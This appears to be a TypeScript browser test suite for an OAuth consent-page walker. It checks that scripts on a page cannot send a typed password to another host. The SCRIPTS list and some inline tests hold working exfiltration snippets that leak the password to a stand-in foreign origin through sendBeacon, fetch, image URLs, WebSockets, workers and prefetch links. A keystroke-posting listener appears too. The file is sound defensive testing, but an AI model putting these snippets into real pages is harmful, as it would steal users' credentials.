import { expect, foreign } from './browser-test.ts'
import { REDIRECT_URI, USER } from './consent-pages.ts'
import { asItIs, FIELD, SECRET, sending, stopped, submit, test, WAYS, walkThrough } from './egress-pages.ts'
import { page, to } from './service.ts'

for (const [what, says, alter, instead] of WAYS)
  test(`${what} is stopped, and the other host receives nothing`, async ({ hasty, abroad }) => {
    const { origin, sent } = abroad
    const { failure, own } = await walkThrough(hasty, alter(origin), instead?.(origin))
    expect(failure?.reason).toMatch(stopped(says, own, origin))
    expect(failure?.reason).toContain('ALLOWED_HOSTS=http://localhost')
    expect(sent).toEqual([])
    expect(JSON.stringify(failure)).not.toContain(SECRET)
  })

test('if a page changes as soon as its field gets the focus, nothing is typed into the next page', async ({
  hasty,
}) => {
  const typed: string[] = []
  const next = page('Sign in', FIELD).replace(
    '</label>',
    '</label><script>addEventListener("input", ({ target }) => fetch("/typed", { method: "POST", body: target.value }))</script>',
  )
  const focus = (html: string) =>
    `${html}<script>document.querySelector('[type=password]').onfocus = () => { location.href = '/next' }</script>`
  const { failure } = await walkThrough(hasty, focus, {
    '/next': () => next,
    '/typed': ({ body }) => {
      typed.push(body)
      return ''
    },
  })
  expect(failure).toBeDefined()
  expect(typed.join()).not.toContain(SECRET)
})

test('a walk that fails after a document in a frame was stopped is blocked, and does not blame the page', async ({
  hasty,
  abroad: { origin },
}) => {
  const { failure, own } = await walkThrough(hasty, asItIs, {
    'POST /consent': () => page('One more thing', `<iframe src="${origin}/confirm"></iframe>`),
  })
  expect(failure).toMatchObject({ kind: 'blocked' })
  expect(failure?.reason).toMatch(stopped('GET ABROAD for a frame', own, origin))
})

test('the redirect of a pop-up does not reach the application', async ({ session, service }) => {
  const client = await service(() => 'the client')
  const redirectUri = `${foreign(client)}/callback`
  const walk = await session.through(
    ({ path }) =>
      path === '/authorize'
        ? page('Welcome', '<button onclick="window.open(\'/on\')">Sign in</button>')
        : to(`${redirectUri}?code=c1&state=s1`),
    { redirectUri, journeys: { signIn: { steps: [{ click: { role: 'button', name: 'Sign in' } }] } } },
  )
  expect(walk.redirect).toBe(`${redirectUri}?code=c1&state=s1`)
  expect(walk.strays).toBeUndefined()
  expect(client.visits).toEqual([])
})

/** Scripts that try to send the typed password to another host while the walk continues. */
const SCRIPTS: readonly ((abroad: string) => string)[] = [
  (abroad) =>
    `navigator.sendBeacon('${abroad}/b', new Blob([JSON.stringify({ pw })])); await fetch('/settled')`,
  (abroad) =>
    `await fetch('${abroad}/f', { method: 'POST', mode: 'no-cors', body: 'x=' + encodeURIComponent(pw) })`,
  (abroad) =>
    `await new Promise((end) => { Object.assign(new Image(), { onerror: end, onload: end, src: '${abroad}/i?' + btoa('x' + pw) }) })`,
  (abroad) => `await fetch('${abroad}/h', { headers: { 'x-pw': pw } })`,
  () => "await fetch('/on', { method: 'POST', body: pw })",
  (abroad) =>
    `const code = "fetch('${abroad}/w', { method: 'POST', mode: 'no-cors', body: '" + pw + "' }).finally(() => postMessage(1))"
     const worker = new Worker(URL.createObjectURL(new Blob([code])))
     await new Promise((end) => { worker.onmessage = end })`,
  (abroad) => `await new Promise((end) => { new WebSocket('${abroad}/ws?x=' + pw).onerror = end })`,
  (abroad) =>
    `const code = "new WebSocket('${abroad}/ws?x=" + pw + "').onerror = () => postMessage(1)"
     const worker = new Worker(URL.createObjectURL(new Blob([code])))
     await new Promise((end) => { worker.onmessage = end })`,
  (abroad) =>
    `await new Promise((end) => { const link = document.createElement('link')
       document.head.append(Object.assign(link, { rel: 'prefetch', href: '${abroad}/link?x=' + pw, onerror: end, onload: end })) })`,
  (abroad) =>
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '${abroad}/frame' })); await fetch('/settled')`,
]

test('requests of scripts with typed values are stopped and reported, and the walk continues', async ({
  session,
  abroad: { origin, sent },
}) => {
  const script = SCRIPTS.map((send) => `try { ${send(origin)} } catch {}`).join('\n')
  const { own, ...walk } = await walkThrough(session, sending(script), {
    '/on': () => to(`${origin}/on`, 307, { 'access-control-allow-origin': '*' }),
  })
  expect(walk.redirect).toBe(`${REDIRECT_URI}?code=c1&state=s1`)
  expect(sent.filter((line) => !line.startsWith('OPTIONS'))).toEqual([])
  const { strays = [] } = walk
  expect(strays.length).toBeGreaterThanOrEqual(SCRIPTS.length)
  for (const { is, from, to, carries } of strays) {
    expect([from, to]).toEqual([own.origin, expect.stringContaining(new URL(origin).host)])
    expect(carries).toEqual(
      is === 'frame' ? [] : [expect.stringMatching(/^<consent_password#[0-9a-f]{10}>$/)],
    )
  }
  expect(JSON.stringify(walk)).not.toContain(SECRET)
})

test('a page can load styles and images from other hosts, as long as it sends no typed value', async ({
  session,
  abroad: { origin, sent },
}) => {
  const loads = `<link rel="stylesheet" href="${origin}/style.css?v=1"><img src="${origin}/logo.png">`
  const walk = await walkThrough(session, (html) => `${html}${loads}`)
  expect(walk.redirect).toContain('code=c1')
  expect(walk.strays).toBeUndefined()
  expect(sent.map((line) => line.split(' ')[1]).sort()).toEqual(['/logo.png', '/style.css?v=1'])
})

test('a short typed value is found in the body of a request, but not in the path of an address', async ({
  session,
  abroad: { origin, sent },
}) => {
  const script = `navigator.sendBeacon('${origin}/b', 'pin=' + pw)`
  const alter = (html: string) => `${submit(script)(html)}<img src="${origin}/4711/logo.png">`
  const variables = { ...USER, CONSENT_PASSWORD: '4711' }
  const walk = await walkThrough(session, alter, {}, { variables })
  expect(walk.strays).toMatchObject([{ method: 'POST', carries: [expect.any(String)] }])
  expect(sent).toEqual(['GET /4711/logo.png '])
})
